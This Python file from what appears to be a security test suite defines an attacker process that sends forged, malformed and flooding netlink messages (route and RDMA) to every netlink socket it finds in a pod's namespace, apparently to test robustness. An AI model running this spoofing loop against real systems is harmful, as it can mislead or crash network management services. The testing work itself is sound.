"""A process in a pod's namespace that sends forged answers to every netlink socket it finds there.

It finds the sockets in /proc/net/netlink, as any process of the namespace can, and sends to their port numbers, which
CAP_NET_ADMIN in its own user namespace allows (net/netlink/af_netlink.c, netlink_unicast).
"""

from __future__ import annotations

from tests.security.hostile import Hostile

NETLINK_ROUTE, NETLINK_RDMA = 0, 20
KINDS = ("zero length", "short", "longer than it is", "torn attributes", "a forged answer", "a forged end", "a flood")

# RTM_NEWLINK with IFLA_IFNAME; RDMA_NL_NLDEV's CMD_GET with RDMA_NLDEV_ATTR_DEV_INDEX and _DEV_NAME.
ANSWERS = {
    NETLINK_ROUTE: """
kind, head, attributes = 16, struct.pack("BxHiII", 0, 32, 7, 1, 0), attribute(3, b"forged\\0\\0")
""",
    NETLINK_RDMA: """
kind, head, attributes = 5 << 10 | 1, b"", attribute(1, struct.pack("I", 77)) + attribute(2, b"forged\\0\\0")
""",
}
LOOP = """
import socket, struct
link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, {protocol})

def attribute(number, value):
    return struct.pack("HH", 4 + len(value), number) + value

{answer}

def message(sequence, body, kind=kind, length=None):
    return struct.pack("IHHII", 16 + len(body) if length is None else length, kind, 2, sequence, 0) + body

def ports():
    with open("/proc/net/netlink") as lines:
        next(lines)
        for line in lines:
            fields = line.split()
            if int(fields[1]) == {protocol} and int(fields[2]) not in (0, link.getsockname()[0]):
                yield int(fields[2])

FIRST = range(1, 16)
MESSAGES = {{
    "zero length": [bytes(16)],
    "short": [b"\\x10", b"\\x04\\0\\0\\0" + bytes(12)],
    "longer than it is": [message(sequence, b"", length=1 << 30) for sequence in FIRST],
    "torn attributes": [message(sequence, head + b"\\xff\\xff\\3\\0") for sequence in FIRST],
    "a forged answer": [message(sequence, head + attributes) for sequence in FIRST],
    "a forged end": [message(sequence, bytes(4), kind=3) for sequence in FIRST],
    "a flood": [message(sequence, head + attributes) + bytes(30000) for sequence in FIRST],
}}
while True:
    for port in ports():
        for each in MESSAGES[sys.argv[1]]:
            try:
                link.sendto(each, (port, 0))
            except OSError:
                pass
"""


def attack(protocol: int, kind: str) -> Hostile:
    """A running attacker; `kind` is one of KINDS."""
    return Hostile(LOOP.format(protocol=protocol, answer=ANSWERS[protocol]), arguments=[kind])
